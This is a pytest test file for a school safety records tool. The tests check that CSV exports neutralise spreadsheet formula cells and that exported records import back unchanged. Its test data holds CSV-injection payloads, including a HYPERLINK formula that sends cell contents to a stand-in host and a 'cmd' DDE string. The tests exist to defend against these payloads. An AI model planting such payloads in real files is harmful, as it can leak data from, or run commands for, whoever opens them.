"""Files that cannot hurt the person who opens them (P23): CSV exports and report CSVs never hold a cell
a spreadsheet would run (OWASP CSV injection), and `import records` reads SafetyDesk's own exports back
to the same values."""

from __future__ import annotations

import csv
import io
import itertools

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from safetydesk.domain.records_io import (
    FORMULA_STARTS,
    cell,
    neutralise,
    parse_records_text,
    restore_cell,
)
from safetydesk.domain.report_model import TableBlock
from safetydesk.reports.csv_out import table_csv
from safetydesk.services import interactions, records_io
from support import count, examples

ATTACKS = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=1+1", "''@x", "=", "-", "'-", "'"]
EXAMPLE = itertools.count()
texts = st.text(alphabet=st.sampled_from(list("=+-@\t\r\n'\",; abZé日")), max_size=12)


def _dangerous(value: str) -> bool:
    return value[:1] in FORMULA_STARTS


@pytest.mark.policy("P23")
@settings(max_examples=examples(ci=2000, dev=200))
@given(texts)
def test_neutralise_is_safe_and_exactly_undone(text):
    out = neutralise(text)
    assert not _dangerous(out)
    assert restore_cell(out) == text
    count("csv-injection", cells=1, dangerous=int(_dangerous(out)), changed_on_read_back=int(restore_cell(out) != text))


@pytest.mark.policy("P23")
@settings(max_examples=examples(ci=500, dev=100))
@given(st.lists(st.lists(texts, min_size=3, max_size=3), min_size=1, max_size=5))
def test_a_csv_written_cell_by_cell_reads_back_to_the_same_values(rows):
    buf = io.StringIO(newline="")
    w = csv.writer(buf)
    w.writerow(["a", "b", "c"])
    for row in rows:
        w.writerow([cell(v) for v in row])
    for line in csv.reader(io.StringIO(buf.getvalue(), newline="")):
        assert not any(_dangerous(v) for v in line)
    back = parse_records_text("x.csv", buf.getvalue(), jsonl=False)
    expected = [dict(zip("abc", r, strict=True)) for r in rows if any(v.strip() for v in r)]
    assert [r for _, r in back] == expected


@pytest.mark.policy("P23")
def test_report_csvs_neutralise_text_cells_and_keep_numbers():
    block = TableBlock(("Group", "=Total"), (("=cmd", 3), ("-", -4), ("@x", None), ("Asian", 12)), csv_name="t")
    data = table_csv(block).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(data, newline="")) for c in row]
    assert cells == ["Group", "'=Total", "'=cmd", "3", "'-", "-4", "'@x", "", "Asian", "12"]


@pytest.mark.policy("P23")
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_an_export_holds_no_formula_and_reads_back_to_the_same_values(world, tmp_path, fmt):
    s = world.session
    ids = [interactions.log_interaction(s, world.draft(location=attack, narrative=f"{attack} said the student"))
           for attack in ATTACKS[:6]]
    out = tmp_path / f"all.{fmt}"
    records_io.export_records(s, "interaction", fmt, out)
    if fmt == "csv":
        for row in csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")):
            assert not any(_dangerous(v) for v in row), row
    rows = records_io.read_rows(out)
    assert len(rows) == len(ids)
    lk = records_io._lookups(s)
    for _, row in rows:
        rid = row.pop("id")
        rtype = row.pop("record_type")
        assert "rules_version" in row  # SafetyDesk's own export
        for name in ("author", "rules_version", "retracted", "retract_reason", "compliance_flags", "duplicate_of"):
            row.pop(name, None)
        draft, problems = records_io.row_to_draft(rtype, row, lk, exact=True)
        assert problems == []
        assert draft == interactions.get_interaction(s, rid)["draft"]


@pytest.mark.policy("P23")
@settings(max_examples=examples(ci=60, dev=8), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(location=texts.filter(lambda t: t.strip()), narrative=st.text(min_size=1, max_size=40).filter(str.strip))
def test_round_trip_through_export_and_import_keeps_every_value(world, tmp_path_factory, location, narrative):
    """Property: any record, exported to CSV and imported again (as a new record), has the same values."""
    s = world.session
    n = next(EXAMPLE)  # the world outlives one example: a different time keeps each record new
    when = f"2025-10-{1 + n // 480 % 28:02d}T{8 + n // 60 % 8:02d}:{n % 60:02d}"
    try:
        rid = interactions.log_interaction(s, world.draft(occurred_at=when, location=location,
                                                          narrative=narrative))
    except Exception:  # a value the forms refuse too (for example the P14 guard): not this property
        return
    folder = tmp_path_factory.mktemp("rt")
    out = folder / "one.csv"
    records_io.export_records(s, "interaction", "csv", out)
    text = out.read_bytes().decode("utf-8")  # not read_text: that would turn a \r inside a cell into \n
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    mine = [r for r in rows if r["id"] == rid]
    for r in mine:
        r["id"] = ""
    again = folder / "again.csv"
    with again.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(mine)
    result = records_io.import_records(s, again)
    assert result.created == {"interaction": 1}
    newest = [r for r in interactions.list_interactions(s, interactions.InteractionFilter()) if r["id"] != rid]
    drafts = [interactions.get_interaction(s, r["id"])["draft"] for r in newest]
    original = interactions.get_interaction(s, rid)["draft"]
    assert original in drafts
    count("csv-round-trip", records=1, changed=int(original not in drafts))


@pytest.mark.policy("P23")
def test_the_student_export_holds_no_formula(world, tmp_path):
    from safetydesk.domain.records import StudentDraft
    from safetydesk.services import registry, roster

    registry.add_student(world.session, StudentDraft(local_id="S77777", first_name="=HYPERLINK(\"x\")",
                                                     last_name="@SUM(A1)", school_id=world.high, grade="9"))
    out = tmp_path / "students.csv"
    roster.export_students(world.session, out)
    cells = [c for row in csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")) for c in row]
    assert not any(_dangerous(c) for c in cells)
    assert "'=HYPERLINK(\"x\")" in cells and "'@SUM(A1)" in cells
